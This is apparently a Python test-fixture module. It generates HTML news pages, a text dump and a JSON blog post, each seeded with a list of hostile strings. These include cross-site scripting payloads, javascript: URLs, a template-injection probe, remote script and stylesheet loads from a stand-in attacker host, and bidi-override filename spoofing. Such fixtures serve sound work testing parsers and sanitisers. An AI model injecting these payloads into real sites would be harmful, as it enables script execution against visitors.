"""Pages, dumps and posts whose every text tries to become something else where it is shown."""

import html
import json
from typing import Final

__all__ = ["FILES", "HOST", "TEXTS"]

HOST: Final = "evil.example"
TEXTS: Final = (
    "<script>alert(1)</script>",
    f'"><img src="http://{HOST}/pixel" onerror="alert(2)">',
    "'><svg onload=alert(3)>",
    f"</script><script src=http://{HOST}/s.js></script>",
    f"</style><style>@import url(http://{HOST}/s.css); body{{display:none}}</style>",
    "</title></head><body onload=alert(4)>",
    "</textarea><!-- --><iframe srcdoc='<script>alert(5)</script>'></iframe>",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}${alert(6)}",
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/go'><base href=http://{HOST}/>",
    f"<link rel=stylesheet href=http://{HOST}/l.css><link rel=prefetch href=http://{HOST}/p>",
    "&lt;script&gt;alert(7)&lt;/script&gt; &#60;img src=x onerror=alert(8)&#62;",
    "javascript:alert(9)",
    f"\u202ecod.exe\u202c \u2066 https://{HOST}/\u202e a name that runs away",
    "<details open ontoggle=alert(10)><summary>x</summary></details>",
    f"<form action=http://{HOST}/f><button autofocus onfocus=alert(11)>x</button></form>",
)
# Long enough to be an article, so that each stands in its text, too.
_STORY: Final = (
    "The council met on Tuesday to talk about the bridge, which has been closed to lorries since the spring. "
    "Engineers have found cracks in two of its piers. "
)
_BODY: Final = "".join(f"<p>{_STORY} {html.escape(text)}</p>" for text in TEXTS)


def _page(title: str) -> str:
    said = html.escape(title)
    data = {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": title,
        "author": {"@type": "Person", "name": title, "url": "javascript:alert(12)"},
        "articleSection": title,
        "keywords": list(TEXTS),
        "image": f"http://{HOST}/lead.jpg",
    }
    structured = json.dumps(data).replace("</", "<\\/")
    return (
        f'<!doctype html><html lang="en&quot; onload=&quot;alert(13)"><head><meta charset="utf-8"><title>{said}</title>'
        f'<meta property="og:title" content="{said}"><meta name="author" content="{said}">'
        f'<link rel="canonical" href="javascript:alert(14)">'
        f'<script type="application/ld+json">{structured}</script></head>'
        f'<body><nav><a href="javascript:alert(15)">{said}</a></nav><article><h1>{said}</h1>{_BODY}'
        f'<figure><img src="http://{HOST}/a.jpg?&quot;onerror=alert(16)" alt="{said}">'
        f"<figcaption>{said}</figcaption></figure>"
        f'<figure><img src="javascript:alert(17)" alt="{said}"></figure>{_BODY}</article>'
        f'<div class="share {said}">{said}</div><footer>{said}</footer></body></html>'
    )


def _post(title: str) -> str:
    said = html.escape(title)
    return json.dumps(
        {
            "id": 7,
            "date": title,
            "date_gmt": "2026-03-04T10:00:00",
            "slug": title,
            "status": "publish",
            "type": "post",
            "link": f"https://{HOST}/post/",
            "title": {"rendered": said},
            "excerpt": {"rendered": said},
            "content": {"rendered": _BODY, "protected": False},
        }
    )


FILES: Final[dict[str, str]] = {
    **{f"page-{n}.html": _page(text) for n, text in enumerate(TEXTS)},
    "dump.txt": "\n\n".join([TEXTS[0], *(f"{_STORY} {text}" for text in TEXTS)]),
    "post.json": _post(TEXTS[1]),
    "<img src=x onerror=alert(18)>.html": _page(TEXTS[2]),
}
